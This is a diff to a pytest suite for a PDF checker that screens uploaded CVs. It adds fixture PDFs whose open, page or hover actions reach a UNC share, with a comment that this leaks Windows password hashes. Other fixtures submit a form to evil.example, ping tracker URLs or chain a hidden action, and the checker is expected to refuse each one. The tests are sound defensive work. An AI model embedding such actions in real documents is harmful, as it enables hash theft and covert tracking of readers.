@@ -140,6 +140,49 @@ def launch_on_open(pdf: pikepdf.Pdf) -> None:
     )
 
 
+def open_action_to_a_share(pdf: pikepdf.Pdf) -> None:
+    # The known leak of Windows readers: opening a file on a share sends the password's hash.
+    pdf.Root.OpenAction = Dictionary(
+        S=Name.GoToR, F=String("\\\\203.0.113.9\\share\\x.pdf"), D=Array([0, Name.Fit])
+    )
+
+
+def open_action_to_a_website(pdf: pikepdf.Pdf) -> None:
+    pdf.Root.OpenAction = pdf.make_indirect(
+        Dictionary(S=Name.URI, URI=String("https://tracker.example/opened"))
+    )
+
+
+def open_action_submitting_a_form(pdf: pikepdf.Pdf) -> None:
+    pdf.Root.OpenAction = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"))
+
+
+def page_open_to_an_embedded_document(pdf: pikepdf.Pdf) -> None:
+    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.GoToE, D=Array([0, Name.Fit])))
+
+
+def page_open_importing_data(pdf: pikepdf.Pdf) -> None:
+    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.ImportData, F=String("data.fdf")))
+
+
+def page_open_playing_media(pdf: pikepdf.Pdf) -> None:
+    pdf.pages[-1].obj.AA = Dictionary(C=Dictionary(S=Name.Rendition, OP=0))
+
+
+def mouse_over_a_link_to_a_website(pdf: pikepdf.Pdf) -> None:
+    (link, _) = pdf.pages[0].obj.Annots
+    link.AA = Dictionary(E=Dictionary(S=Name.URI, URI=String("https://tracker.example/hover")))
+
+
+def website_after_an_opening_view(pdf: pikepdf.Pdf) -> None:
+    # A harmless first action (show page 1) that chains one that is not.
+    pdf.Root.OpenAction = Dictionary(
+        S=Name.GoTo,
+        D=Array([pdf.pages[0].obj, Name.Fit]),
+        Next=Array([Dictionary(S=Name.URI, URI=String("https://tracker.example/chained"))]),
+    )
+
+
 def embedded_file(pdf: pikepdf.Pdf) -> None:
     pdf.attachments["references.docx"] = pikepdf.AttachedFileSpec(pdf, b"PK\x03\x04 a document")
 
@@ -166,6 +209,14 @@ REFUSED: list[tuple[Callable[[pikepdf.Pdf], None], CvProblem]] = [
     (javascript_in_a_bookmark, CvProblem.JAVASCRIPT),
     (launch_action, CvProblem.LAUNCH_ACTION),
     (launch_on_open, CvProblem.LAUNCH_ACTION),
+    (open_action_to_a_share, CvProblem.ACTS_WHEN_OPENED),
+    (open_action_to_a_website, CvProblem.ACTS_WHEN_OPENED),
+    (open_action_submitting_a_form, CvProblem.ACTS_WHEN_OPENED),
+    (page_open_to_an_embedded_document, CvProblem.ACTS_WHEN_OPENED),
+    (page_open_importing_data, CvProblem.ACTS_WHEN_OPENED),
+    (page_open_playing_media, CvProblem.ACTS_WHEN_OPENED),
+    (mouse_over_a_link_to_a_website, CvProblem.ACTS_WHEN_OPENED),
+    (website_after_an_opening_view, CvProblem.ACTS_WHEN_OPENED),
     (embedded_file, CvProblem.EMBEDDED_FILE),
     (file_attachment_annotation, CvProblem.EMBEDDED_FILE),
     (xfa_form, CvProblem.XFA_FORM),
@@ -179,6 +230,32 @@ OBJECT_STREAMS = [pikepdf.ObjectStreamMode.disable, pikepdf.ObjectStreamMode.gen
 @pytest.mark.parametrize("object_streams", OBJECT_STREAMS, ids=["plain", "object-streams"])
 def test_a_cv_as_ordinary_tools_write_it_passes(object_streams: pikepdf.ObjectStreamMode) -> None:
     assert cv_problem(saved(cv_document(), object_stream_mode=object_streams)) is None
+
+
+@pytest.mark.parametrize(
+    "opening",
+    [
+        # LaTeX's hyperref and Word open at the first page, fitted: a destination.
+        lambda pdf: Array([pdf.pages[0].obj, Name.Fit]),
+        # The same as a GoTo action, as some exporters write it.
+        lambda pdf: Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.FitH, 842])),
+    ],
+    ids=["destination", "goto-action"],
+)
+def test_a_cv_that_opens_at_a_page_of_its_own_passes(
+    opening: Callable[[pikepdf.Pdf], pikepdf.Object],
+) -> None:
+    pdf = cv_document()
+    pdf.Root.OpenAction = opening(pdf)
+    assert cv_problem(saved(pdf)) is None
+
+
+def test_a_chain_of_actions_that_never_ends_is_refused_in_bounded_time() -> None:
+    pdf = cv_document()
+    action = pdf.make_indirect(Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit])))
+    action.Next = action  # Each action's next is itself.
+    pdf.Root.OpenAction = action
+    assert cv_problem(saved(pdf)) is CvProblem.TOO_COMPLEX
 
 
 def test_a_one_page_pdf_passes() -> None:
